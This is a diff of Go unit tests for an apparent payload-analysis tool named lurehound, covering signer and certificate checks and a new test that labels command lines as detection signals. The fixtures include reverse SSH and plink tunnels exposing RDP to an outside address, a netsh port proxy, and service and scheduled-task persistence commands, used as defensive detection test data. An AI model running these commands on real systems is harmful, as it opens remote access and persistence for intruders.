@@ -128,12 +128,22 @@ func TestLongLine(t *testing.T) {
 func TestCompareReference(t *testing.T) {
 	brand := lurehound.Brand{Signers: []string{"Vendor Ltd"}, References: []lurehound.Reference{{SHA256: "aa", MaxSize: 12500000}}}
 	signed := func(d lurehound.DigestState, who string) lurehound.PayloadFacts {
-		p := lurehound.PayloadFacts{Signature: lurehound.SignatureFacts{Present: true, Digest: d, Signer: who}}
+		p := lurehound.PayloadFacts{Signature: lurehound.SignatureFacts{Present: true, Digest: d, Signer: who, Chain: lurehound.ChainTrusted, Thumbprint: "cc"}}
 		p.SHA256, p.Size = "bb", 187695104
 		return p
 	}
 	good := signed(lurehound.DigestMatch, "X")
 	good.SHA256 = "aa"
+	unvouched := signed(lurehound.DigestMatch, "Vendor Ltd")
+	unvouched.Signature.Chain = lurehound.ChainUnknown
+	byName := lurehound.Brand{Signers: brand.Signers}
+	byCertificate := lurehound.Brand{References: []lurehound.Reference{{Signer: "Vendor Ltd", SHA256: "aa", Thumbprint: "CC"}}}
+	if got := CompareReference(unvouched, byName, nil); got.Verdict != lurehound.ReferenceUnknown || len(got.Differences) != 1 {
+		t.Errorf("a name that nobody vouches for: %+v", got)
+	}
+	if got := CompareReference(unvouched, byCertificate, nil); got.Verdict != lurehound.VendorSigned {
+		t.Errorf("the same certificate: %+v", got)
+	}
 	for _, c := range []struct {
 		p     lurehound.PayloadFacts
 		known KnownBad
@@ -144,6 +154,7 @@ func TestCompareReference(t *testing.T) {
 		{signed(lurehound.DigestMatch, "VENDOR LIMITED"), KnownBad{"bb": ""}, lurehound.KnownBad},
 		{signed(lurehound.DigestMismatch, "Vendor Ltd"), nil, lurehound.Differs},
 		{signed(lurehound.DigestMatch, "Helping Businesses Limited"), nil, lurehound.Differs},
+		{unvouched, nil, lurehound.Differs},
 	} {
 		if got := CompareReference(c.p, brand, c.known); got.Verdict != c.want {
 			t.Errorf("%+v: %+v, want %s", c.p.Signature, got, c.want)
@@ -188,4 +199,39 @@ func FuzzIndicators(f *testing.F) {
 func FuzzPowerShell(f *testing.F) {
 	f.Add("powershell -enc " + base64.StdEncoding.EncodeToString(wide("whoami")))
 	f.Fuzz(func(t *testing.T, s string) { decodePowerShell(s) })
+}
+
+// A tunnel is one that lets others in; what only looks like it is none.
+func TestSignalsOfCommands(t *testing.T) {
+	for line, want := range map[string]string{
+		"ssh -N -R 7655:localhost:3389 user@203.0.113.7":            "tunnel",
+		"ssh.exe -fNR7655:localhost:3389 -l user 203.0.113.7":       "tunnel",
+		"plink -ssh -R 0.0.0.0:7655:localhost:3389 user@host -pw x": "tunnel",
+		"ssh -o RemoteForward=7655 user@203.0.113.7":                "tunnel",
+		"ssh -L 8080:localhost:80 user@203.0.113.7":                 "",
+		"ssh -r 7655:localhost:3389 user@203.0.113.7":               "",
+		"ssh [-R [bind_address:]port:host:hostport] user@host":      "",
+		"netsh interface portproxy add v4tov4 listenport=1":         "port-proxy",
+		"sc create X binPath= y":                                    "service",
+		"schtasks /create /tn x":                                    "scheduled-task",
+	} {
+		got := ""
+		for _, s := range Signals(&lurehound.PayloadFacts{Found: lurehound.Indicators{Commands: []string{line}}}) {
+			got += s.Rule
+			if s.Direct != (want == "tunnel") {
+				t.Errorf("%s: direct is %v", line, s.Direct)
+			}
+		}
+		if got != want {
+			t.Errorf("%s: %q, want %q", line, got, want)
+		}
+	}
+	p := lurehound.PayloadFacts{Inflated: true, Signature: lurehound.SignatureFacts{Unsigned: 9, Digest: lurehound.DigestMismatch}}
+	got := ""
+	for _, s := range Signals(&p) {
+		got += s.Rule + " "
+	}
+	if got != "tampered stuffed inflated " {
+		t.Errorf("got %q", got)
+	}
 }
